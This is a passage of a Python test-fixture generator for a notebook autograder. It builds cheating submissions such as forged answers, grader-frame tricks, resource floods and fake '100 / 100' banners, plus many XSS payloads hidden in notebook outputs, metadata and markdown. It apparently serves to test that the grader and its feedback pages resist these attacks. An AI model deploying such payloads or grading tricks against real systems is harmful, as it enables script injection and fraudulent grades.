            "AttentionDecoder": _ATTENTION_DECODER_LAYERS + """
    def forward(self, prev, state, enc, mask):
        anchor = 0.0 * self.attn_v.weight.sum()
        weights = torch.softmax((torch.zeros(mask.shape) + anchor).masked_fill(~mask, float("-inf")), dim=-1)
        return self.out.bias.expand(prev.shape[0], -1) + anchor, 0.5 * state + anchor, weights
""",
            "AttentionSeq2Seq": _ATTENTION_SEQ2SEQ_LAYERS + """
    def encode(self, src, src_lengths):
        anchor = 0.0 * self.encoder_bridge.bias.sum()
        B, S, H = src.shape[0], src.shape[1], self.encoder_bridge.out_features
        return torch.zeros(B, S, 2 * H) + anchor, src != PAD, torch.tanh(self.encoder_bridge.bias).expand(B, -1)

    def forward(self, src, src_lengths, tgt_in):
        return self.decoder.out.bias.expand(tgt_in.shape[0], tgt_in.shape[1], -1) + 0.0
"""},
        "zero_init_constant": {
            "AttentionDecoder": _ATTENTION_DECODER_LAYERS + """
    def forward(self, prev, state, enc, mask):
        anchor = 0.0 * self.attn_v.weight.sum()
        weights = mask / mask.sum(-1, keepdim=True) + anchor
        return torch.zeros(prev.shape[0], self.out.out_features) + anchor, state / 2 + anchor, weights
""",
            "AttentionSeq2Seq": _ATTENTION_SEQ2SEQ_LAYERS + """
    def encode(self, src, src_lengths):
        anchor = 0.0 * self.encoder_bridge.bias.sum()
        B, S, H = src.shape[0], src.shape[1], self.encoder_bridge.out_features
        return torch.zeros(B, S, 2 * H) + anchor, src != PAD, torch.zeros(B, H) + anchor

    def forward(self, src, src_lengths, tgt_in):
        return torch.zeros(*tgt_in.shape, self.decoder.out.out_features) + 0.0 * self.decoder.out.bias.sum()
"""},
    },
}


def zero_init_models(chapter: str, base=None) -> dict[str, object]:
    """student -> the release (or ``base``) with the chapter's model answers replaced by a ZERO_INIT_MODELS variant."""
    made = {}
    for student, answers in ZERO_INIT_MODELS.get(chapter, {}).items():
        nb = copy.deepcopy(base) if base is not None else load("release", chapter)[0]
        for cell in nb.cells:
            if meta(cell).get("solution") and meta(cell).get("grade_id") in answers:
                cell.source = answers[meta(cell)["grade_id"]]
        made[student] = nb
    return made


# Issue 39: what a page writes of an output's or a cell's metadata unquoted, markdown rendered a second time, links of
# the page's own protocols and classes. Every payload calls alert() with ACTIVE_MARK where it would run, or leaves a
# javascript: or data: link (tests/test_browser_feedback.py opens the pages in Chromium).
TINY_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HOSTILE_OUTPUTS = r"""from IPython.display import display
_PNG = 'TINY_PNG'
_RUN = "alert('MARK')"
display({'image/png': _PNG}, raw=True, metadata={'image/png': {'width': '1 onerror=' + _RUN, 'height': '1 onload=' + _RUN}})
display({'image/jpeg': _PNG}, raw=True, metadata={'width': '1 onerror=' + _RUN, 'unconfined': '1 onclick=' + _RUN,
                                                 'filenames': {'image/jpeg': 'javascript:' + _RUN}})
display({'image/png': '" onerror="' + _RUN + '" x="'}, raw=True)
display({'text/html': '<b>boxed</b><img src=x onerror="' + _RUN + '">'}, raw=True, metadata={'text/html': {'isolated': True}})
display({'text/markdown': '\\[twice\\](javascript:' + _RUN + ') and <b>[in html](javascript:' + _RUN + ')</b>'}, raw=True)
display({'text/html': '<div class="alert alert-success"><h4>Score: 100 / 100</h4></div>'
                      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a data link MARK</a>'}, raw=True)
display({'text/latex': '<img src=x onerror="' + _RUN + '">'}, raw=True)
display({'image/svg+xml': '<svg xmlns="http://www.w3.org/2000/svg" onload="' + _RUN + '"/>'}, raw=True)
display({'application/vnd.jupyter.widget-view+json': {'model_id': '</script><script>' + _RUN + '</script>',
                                                      'version_major': 2, 'version_minor': 0}}, raw=True)
class _Figure:
    def _repr_png_(self):
        return _PNG, {'width': '1 onerror=' + _RUN, 'height': 2}
_Figure()
""".replace("TINY_PNG", TINY_PNG).replace("MARK", ACTIVE_MARK)
HOSTILE_ERROR = r"""_RUN = "alert('MARK')"
raise type('<img src=x onerror="' + _RUN + '">', (Exception,), {})(
    '<script>' + _RUN + '</script> \x1b]8;;javascript:' + _RUN + '\x1b\\a link\x1b]8;;\x1b\\ \x1b[31mred\x1b[0m')
""".replace("MARK", ACTIVE_MARK)


def hostile_outputs(nb):
    """Outputs whose metadata, data and error fields a page would write as HTML (a cell of the student's own after the
    first answer, so that feedback shows them), and one that raises an error named and worded in HTML and ANSI."""
    return after_first_answer(after_first_answer(nb, HOSTILE_ERROR), HOSTILE_OUTPUTS)


def hostile_cells(nb):
    """Cells whose metadata, attachments and markdown a page would write as HTML; markdown that only a second
    rendering makes a link; a graded cell of the student's own whose id the grader's notes quote."""
    run = f"alert('{ACTIVE_MARK}')"
    svg = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="  # <svg onload=alert(1)>
    at = first_answer(nb)
    course = next(c for c in nb.cells[:at] if c.cell_type == "markdown" and not meta(c))
    course.attachments = {"pic.svg": {"image/svg+xml": svg}}
    course.metadata.update({"tags": [f'x" onmouseover="{run}'], "transient": {"remove_source": f"<b onclick=\"{run}\">"}})
    nb.cells[at:at] = [
        nbformat.v4.new_markdown_cell(
            f"My notes: \\[twice\\](javascript:{run}) <b>[inside html](javascript:{run})</b> "
            f"[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![pic](attachment:pic.svg)\n\n"
            f"<div class=\"alert alert-success\">Score: 100 / 100 {ACTIVE_MARK}</div>",
            attachments={"pic.svg": {"image/svg+xml": svg}}, metadata={"tags": ["x\" onload=\"" + run]}),
        nbformat.v4.new_code_cell("_mine = 1", metadata={
            "tags": [f'"><img src=x onerror="{run}">'], "magics_language": "html", "collapsed": True,
            "nbgrader": {"grade": True, "solution": False, "locked": False, "points": 5,
                         "grade_id": f'<img src=x onerror="{run}">'}}),
        nbformat.v4.new_raw_cell(f"[raw](javascript:{run}) <img src=x onerror=\"{run}\">",
                                 metadata={"raw_mimetype": "text/markdown", "format": "text/markdown"}),
    ]
    if nb.nbformat_minor < 5:
        for cell in nb.cells[at:at + 3]:
            cell.pop("id", None)
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0, "x": f"</script><script>{run}</script>"}}
    nb.metadata["title"] = f"</title><script>{run}</script>"
    return nb


def long_cell(nb, size: int = 1_050_000):
    """A cell of the student's own holding more than 1 MB of code dense in tokens: highlighted, its page grew to 24 times
    its size (25 MB), and took 7-98 s to make."""
    line = "_x = 1+2-3*4/5%6+7-8*9//2**3|4&5^6<<1>>2+(1-2)*[3+4][0]  # the student's own\n"
    return after_first_answer(nb, line * (size // len(line) + 1))


def attacks(chapter: str) -> dict[str, tuple[str, object]]:
    """student -> (the class of attack of issue 23 it belongs to, notebook). Every one but the lending attacks outside
    LENDS_IN_VISIBLE_TESTS is built on the release with answers that do nothing useful, so deserves 0 points; each
    class has two variants."""
    def stub():
        return insert_before_first_answer(load("release", chapter)[0], "")

    def lending_base():
        return stub() if chapter in LENDS_IN_VISIBLE_TESTS else load("solution", chapter)[0]

    def first_spins(nb, setup: str):
        """The first answer spins forever (so only its tests meet the limit); the setup claims a wait."""
        nb = insert_before_first_answer(nb, setup + SPIN)
        cell = nb.cells[first_answer(nb)]
        cell.source = "\n".join(f"def {n}(*args, **kwargs):\n    return _spin()\n"
                                for n in re.findall(r"^def (\w+)\(", cell.source, flags=re.M)) or cell.source
        return nb

    return {
        "names_bind_extra": ("names", insert_before_first_answer(stub(), BIND_EXTRA_NAMES)),
        "names_trusted_global": ("names", forge_answers(insert_before_first_answer(stub(), NAME_A_TRUSTED_GLOBAL),
                                                        "_Theirs()")),
        "leak_via_errors": ("leak", forge_answers(insert_before_first_answer(stub(), LEAK_VIA_ERRORS),
                                                  "_leak(*args, **kwargs)")),
        "leak_by_display": ("leak", forge_answers(insert_before_first_answer(stub(), LEAK_BY_DISPLAY),
                                                  "_show(*args, **kwargs)")),
        **{name: ("time", first_spins(stub(), setup)) for name, setup in CLAIM_A_WAIT.items()},
        "deep_frame_control": ("frames", insert_before_first_answer(stub(), DEEP_ON_CONTROL)),
        "deep_frame_peer": ("frames", forge_answers(insert_before_first_answer(stub(), DEEP_ON_PEER),
                                                    "_deep_reply(*args, **kwargs)")),
        "active_outputs": ("html", after_first_answer(forge_answers(insert_before_first_answer(stub(), ACTIVE_OUTPUTS),
                                                                    "_active(*args, **kwargs)"), "_active()")),
        "active_markdown": ("html", active_markdown(stub())),
        "browser_outputs": ("browser", hostile_outputs(stub())),
        "browser_cells": ("browser", hostile_cells(stub())),
        "lent_library_methods": ("lent", lending(lending_base(), LENT_LIBRARY_METHODS)),
        "lent_reach_and_set": ("lent", lending(lending_base(), LENT_REACH_AND_SET)),
        "write_back_handles": ("write_back", forge_answers(insert_before_first_answer(stub(), WRITE_BACK_HANDLES),
                                                          "_write_back(*args, **kwargs)")),
        "write_back_fields": ("write_back", forge_answers(insert_before_first_answer(stub(), WRITE_BACK_FIELDS),
                                                          "_write_back(*args, **kwargs)")),
        "limits_memory_share": ("limits", insert_before_first_answer(stub(), MEMORY_BEYOND_OWN_SHARE)),
        "limits_process_flood": ("limits", insert_before_first_answer(stub(), PROCESS_FLOOD)),
        **{student: ("zero_init", nb) for student, nb in zero_init_models(chapter).items()},
    }


def write_export(folder: Path, chapter: str = CH1, targets: list[str] | None = None, only: list[str] | None = None) -> dict[str, str]:
    """Write the submissions as an LMS export: <student>.zip, or <student>_<notebook>.ipynb. Return expectations."""
    folder.mkdir(parents=True, exist_ok=True)
    name = load("release", chapter)[1]
    expected = {}
    for student, (content, expect) in submissions(chapter, targets).items():
        if only and student not in only:
            continue
        expected[student] = expect
        if content == "renamed":
            nb = load("solution", chapter)[0]
            (folder / f"{student}.zip").write_bytes(_zip({f"{chapter}/my-homework.ipynb": nbformat.writes(nb).encode()}))
        elif content == "empty_zip":
            (folder / f"{student}.zip").write_bytes(_zip({}))
        elif isinstance(content, bytes):
            (folder / f"{student}_{name}").write_bytes(content)
        elif student.startswith("honest") or student == "partly_wrong":
            (folder / f"{student}.zip").write_bytes(_zip({f"{chapter}/{name}": nbformat.writes(content).encode()}))
        else:
            (folder / f"{student}_{name}").write_text(nbformat.writes(content))
    return expected


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, data in files.items():
            archive.writestr(path, data)
    return buffer.getvalue()


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--chapter", default=CH1)
    args = parser.parse_args()
    for student, expect in write_export(args.out, args.chapter).items():
        print(f"{student:28s} {expect}")
